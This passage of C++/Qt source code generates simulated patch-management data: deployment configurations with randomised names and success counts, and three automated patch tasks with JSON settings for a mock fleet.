            c.name = QStringLiteral("Emergency - CVE-%1-%2")
                         .arg(when.date().year())
                         .arg(m_rng.between(20000, 59999));
            break;
        case 4:
            c.name = QStringLiteral("Peazip x64 - %1").arg(firstName.toLower());
            break;
        default:
            c.name = QStringLiteral("Third-party updates - %1").arg(when.toString(QStringLiteral("MMMM")));
            break;
        }
        c.description = QStringLiteral("--");
        c.uninstall = i % 11 == 10;
        c.total = targetCount;
        switch (c.status) {
        case S::Deployed:
        case S::Executed:
            c.failed = m_rng.bounded(std::max(1, targetCount / 5 + 1));
            c.notApplicable = m_rng.bounded(2);
            c.succeeded = std::max(0, targetCount - c.failed - c.notApplicable);
            break;
        case S::InProgress:
        case S::RetryInProgress:
            c.succeeded = targetCount / 2;
            c.retrying = c.status == S::RetryInProgress ? std::max(1, targetCount / 5) : 0;
            c.yetToApply = targetCount - c.succeeded - c.retrying;
            break;
        default:
            c.yetToApply = targetCount;
            break;
        }
        for (int t : std::as_const(c.targets)) {
            c.offices.insert(f.m_computers.at(t).office);
            c.domains.insert(f.m_computers.at(t).domain);
        }
        if (!c.uninstall && (c.status == S::Deployed || c.status == S::Executed))
            f.m_historicConfigNames << c.name;
        f.m_configs.append(c);
    }
}

void FleetGenerator::makeApdTasks()
{
    struct Spec
    {
        const char *name, *platform, *targetType, *targetList, *templateName, *description;
        bool suspended;
    };
    const Spec specs[] = {
        {"Windows Patch Tuesday", "Windows", "CUSTOM_GROUP", "Pilot Ring", "Force reboot excluding servers",
         "Monthly OS patches, pilot first", false},
        {"Third-party apps weekly", "Windows", "REMOTE_OFFICE", "Local Office",
         "Deploy any time at the earliest", "Browsers, readers and tools", false},
        {"Mac monthly", "Mac", "CUSTOM_GROUP", "Mac Fleet", "Deploy during business hours",
         "macOS and Mac apps", true},
    };
    int i = 0;
    for (const Spec &s : specs) {
        ApdTask t;
        t.name = QString::fromLatin1(s.name);
        t.suspended = s.suspended;
        t.createdMs = R - qint64(120 + i * 40) * DayMs;
        t.modifiedMs = t.createdMs + qint64(5 + i) * DayMs;
        t.lastRunMs = R - qint64(1 + i * 2) * DayMs - 3 * HourMs;
        t.nextRunMs = R + qint64(1 + i * 3) * DayMs + 2 * HourMs;
        t.settings = QJsonObject{
            {QStringLiteral("taskName"), t.name},
            {QStringLiteral("templateName"), QString::fromLatin1(s.templateName)},
            {QStringLiteral("description"), QString::fromLatin1(s.description)},
            {QStringLiteral("platform"), QString::fromLatin1(s.platform)},
            {QStringLiteral("target_type"), QString::fromLatin1(s.targetType)},
            {QStringLiteral("target_list"), QString::fromLatin1(s.targetList)},
            {QStringLiteral("security_update"), QStringLiteral("true")},
            {QStringLiteral("thirdparty_update"), i == 1 ? QStringLiteral("true") : QStringLiteral("false")},
            {QStringLiteral("email"), QStringLiteral("patching@zylker.com")},
            {QStringLiteral("failure_notify_enable"), QStringLiteral("true")},
            {QStringLiteral("failure_notify_duration"), QStringLiteral("1")}};
        m_fleet.m_apdTasks.append(t);
        ++i;
    }
}

} // namespace pmp::sim
